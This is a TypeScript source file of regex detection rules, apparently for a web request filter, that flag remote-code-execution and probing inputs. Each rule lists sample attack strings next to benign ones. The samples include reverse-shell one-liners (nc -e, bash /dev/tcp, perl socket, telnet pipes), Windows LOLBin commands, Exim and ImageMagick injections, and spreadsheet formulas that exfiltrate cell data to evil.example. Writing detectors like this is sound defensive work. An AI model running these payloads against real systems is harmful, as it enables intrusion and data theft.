import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import { WORD } from '../value/words.ts'

/**
 * How languages and tools start programs, as the whole of a value or a part of it: what a field that is
 * evaluated takes, and an option that a tool is not to be given.
 */
export const languageProgramRules: readonly Rule[] = [
  pattern(
    'code/program-call',
    /\bpty\.spawn\s{0,2}\(|\bimport\s{1,4}(?:[\w ,]{1,60},\s{0,2})?(?:subprocess|pty)(?:\s{0,2},[\w ,]{1,60})?\s{0,2};|\bimport\s{1,4}(?:os|subprocess|pty|commands)\s{1,4}as\s{1,4}\w{1,24}\s{0,4}[;\n]\s{0,4}\w{1,24}\.(?:system|popen|spawn|run|call|exec|check_output|getoutput)\w{0,4}\s{0,2}\(|\blookup\s{0,2}\(\s{0,2}['"]pipe['"]|\bjava\.type\s{0,2}\(\s{0,2}['"]java\.lang\.(?:runtime|processbuilder|system|thread|class)\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.runtime | WORD.java,
      attacks: [
        "import pty;pty.spawn('/bin/sh')",
        'import socket,subprocess,os;s=socket.socket()',
        "import os as p;p.system('x')",
        "{{ lookup('pipe','id') }}",
        "Java.type('java.lang.Runtime')",
      ],
      benign: ['import subprocess', 'pty.spawn', "lookup('file', 'x')", "Java.type('java.util.ArrayList')"],
    },
  ),
  // Programs of any kind have them, where programs are data.
  pattern(
    'code/command-call',
    /\bexec\.command(?:context)?\s{0,2}\(\s{0,2}["']|\bsystem\.cmd\s{0,2}\(\s{0,2}["']|\bclojure\.java\.shell\/sh\b|\((?:run-shell-command|uiop:run-program|sb-ext:run-program)\s/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.paren,
      words: 0,
      attacks: [
        'exec.Command("id").Run()',
        'System.cmd("id", [])',
        '(clojure.java.shell/sh "id")',
        '(run-shell-command "id")',
      ],
      benign: ['exec.command', 'System.cmd', '(run-program)'],
    },
  ),
  // Scala starts a string as a program.
  pattern('code/started-string', /["']\s{0,2}\.\s{0,2}!{1,2}\s{0,2}$/, {
    score: 5,
    bare: true,
    quotable: true,
    chars: CHAR.bang,
    attacks: ['"id".!!', "'id' . !"],
    benign: ['"Wow"!', '"id".!x'],
  }),
  pattern(
    'rce/windows-tool',
    /\brundll32(?:\.exe)?\s{1,4}["']?javascript:|\bschtasks(?:\.exe)?\s{1,4}\/(?:create|run|change)\b|\bwmic(?:\.exe)?\s{1,4}(?:process\s{1,4}call|\/node:|os\s{1,4}get)\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.shell,
      attacks: [
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
        'schtasks /create /tn x /tr calc.exe',
        'wmic process call create calc.exe',
      ],
      benign: ['rundll32 is slow', 'schtasks', 'wmic process'],
    },
  ),
  // A shell that answers to who opened it: no health check and no step of a pipeline has one.
  pattern(
    'rce/shell-back',
    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|\btelnetd\s{1,4}(?:-\w{1,2}\s{0,2}\d{0,5}\s{1,2}){0,4}-\w{0,2}l\s{0,2}\/(?:usr\/)?bin\/(?:ba|da|a)?sh\b|\|\s{0,2}telnet\s[^|;&\n]{1,80}\|\s{0,2}(?:while\b|(?:\/bin\/)?(?:ba|da|z|k)?sh\b)|\bperl\s{1,4}-mio\s{1,4}-e\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.shell,
      attacks: [
        'nc -e /bin/sh 198.51.100.7 4444',
        'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
        `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:443")'`,
        'telnetd -l/bin/sh -p 9999',
        'sleep 9|telnet 198.51.100.7 4444|while : ; do sh && break; done',
      ],
      benign: ['exec 3<>/dev/tcp/localhost/9092', 'nc -z db 5432', 'bash -i'],
    },
  ),
  pattern(
    'rce/find-exec',
    /(?:^|\s)-(?:exec|execdir)\s{1,4}[\w./-]{1,40}\s[^\n;]{0,80}(?:\\;|\{\}|;\s{0,2}$)/,
    {
      score: 5,
      quotable: true,
      bare: true,
      words: WORD.shell,
      attacks: ["x' -exec id \\;", '. -exec id {} +'],
      benign: ['-exec', '-exec id', 'exec {} ;'],
    },
  ),
  // No host begins with a dash: a program takes it for an option.
  pattern('rce/option-host', /^\s{0,2}[a-z][a-z+]{1,11}:\/\/-{1,2}[a-z]/, {
    score: 5,
    atStart: true,
    chars: CHAR.scheme,
    attacks: ['svn+ssh://-oProxyCommand=id/x', 'ssh://--x'],
    benign: ['https://a-b.example', 'x:// - a'],
  }),
  pattern('rce/client-escape', /^\s{0,2}\\!\s{1,4}[a-z/]/, {
    score: 5,
    atStart: true,
    chars: CHAR.backslash,
    places: ['query', 'form', 'cookie'],
    attacks: ['\\! id'],
    benign: ['!important', 'a \\! b'],
  }),
  pattern(
    'rce/hardware-address',
    /^\s{0,2}(?:[\da-f]{2}[:-]){5}[\da-f]{2}\s{0,2}[;|&]{1,2}\s{0,2}(?:[a-z$(]|\/[a-z])/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand,
      attacks: ['00:11:22:33:44:55;id', '00-11-22-33-44-55|id', '00:11:22:33:44:55&&reboot'],
      benign: ['00:11:22:33:44:55', '00:11:22:33:44:55; 00:11:22:33:44:56'],
    },
  ),
  // What ImageMagick reads as a script, or as the name of a file to read.
  pattern(
    'rce/picture-script',
    /^\s{0,2}(?:(?:vid:)?(?:msl|ephemeral|mvg):\/?[\w./]|(?:label|caption|text|pango):@\/?[\w./])/,
    {
      score: 5,
      bare: true,
      atStart: true,
      chars: CHAR.colon,
      words: WORD.probe,
      places: ['query', 'form', 'cookie'],
      attacks: ['msl:/tmp/x.msl', 'caption:@/etc/x', 'ephemeral:/tmp/a'],
      benign: ['label:bug', 'text: @ann', 'msl', 'label: @team'],
    },
  ),
  // What a mail server works out in an address (Exim).
  pattern('rce/mail-expansion', /\$\{(?:run|readsocket|readfile|dlfunc)\s{0,2}\{/, {
    score: 5,
    quotable: true,
    chars: CHAR.dollar,
    attacks: ['${run{\\x2fbin\\x2fsh\\t-c\\t\\x22id\\x22}}@x.example', '${readfile{/etc/x}}'],
    benign: ['${run}', '${a{b}}'],
  }),
  // A function of PHP where a framework looks for a controller.
  pattern(
    'code/controller-function',
    /(?:^|&)_controller=(?:php(?:info|credits|version)|system|exec|passthru|shell_exec|call_user_func(?:_array)?|file_put_contents|assert|eval)\b/,
    {
      score: 5,
      words: WORD.call,
      attacks: ['_controller=phpcredits&flag=-1', '_format=html&_controller=system&command=id'],
      benign: ['_format=html&_controller=App%5CController%5CMenu', '_controller=system_admin'],
    },
  ),
  // What a page of Velocity reaches Struts by.
  pattern('java/page-context', /\bkey_velocity\.struts2\b|\.internalget\s{0,2}\(\s{0,2}['"]ognl/, {
    score: 5,
    quotable: true,
    words: WORD.probe | WORD.java,
    attacks: [".KEY_velocity.struts2.context'", "x.internalGet('ognl')"],
    benign: ['struts2', 'internalGet(key)'],
  }),
  // A cell that sends others to where its writer says.
  pattern(
    'rce/formula-address',
    /^\s{0,2}[=+@-]\s{0,2}(?:hyperlink|importxml|importdata|importfeed|importhtml|webservice|image)\s{0,2}\(\s{0,2}(?:concat(?:enate)?\s{0,2}\(\s{0,2})?["']https?:\/\/[^"'\n]{1,160}["']\s{0,2}(?:&|,\s{0,2}[a-z]{1,3}\d)/,
    {
      score: 5,
      bare: true,
      atStart: true,
      unlessNamed: /formula$/,
      chars: CHAR.scheme,
      attacks: [
        '=HYPERLINK("http://evil.example?x="&A1,"x")',
        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
        '@WEBSERVICE("http://evil.example/"&A1)',
      ],
      benign: ['=HYPERLINK("https://a.example","a")', '=SUM(A1)', '=IMAGE("https://a.example/x.png")'],
    },
  ),
  // Its own program of old, and what fetches a page: nobody is called so.
  pattern(
    'rce/formula-fetch',
    /^\s{0,2}[=+@-]\s{0,2}(?:dde\s{0,2}\(\s{0,2}["'](?:cmd|powershell|mshta|excel|msexcel)\b|(?:importxml|importdata|importfeed|importhtml|webservice)\s{0,2}\(\s{0,2}["']https?:\/\/)/,
    {
      score: 5,
      bare: true,
      atStart: true,
      unlessNamed: /formula|cell|value|content|body|text|expr|input|rows?(?:$|[.[])/,
      chars: CHAR.paren,
      places: ['query', 'form', 'cookie'],
      attacks: ['=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example","//a")'],
      benign: ['=IMPORTXML guide', '=SUM(A1)', '-5 (dde)'],
    },
  ),
  // A scanner of names that Windows shortens.
  pattern('probe/short-name', /\*~\d{1,2}\*?/, {
    score: 5,
    chars: CHAR.star,
    places: ['path'],
    attacks: ['/*~1*/a.aspx'],
    benign: ['/~1', '/a*b', '/docs~1'],
  }),
]
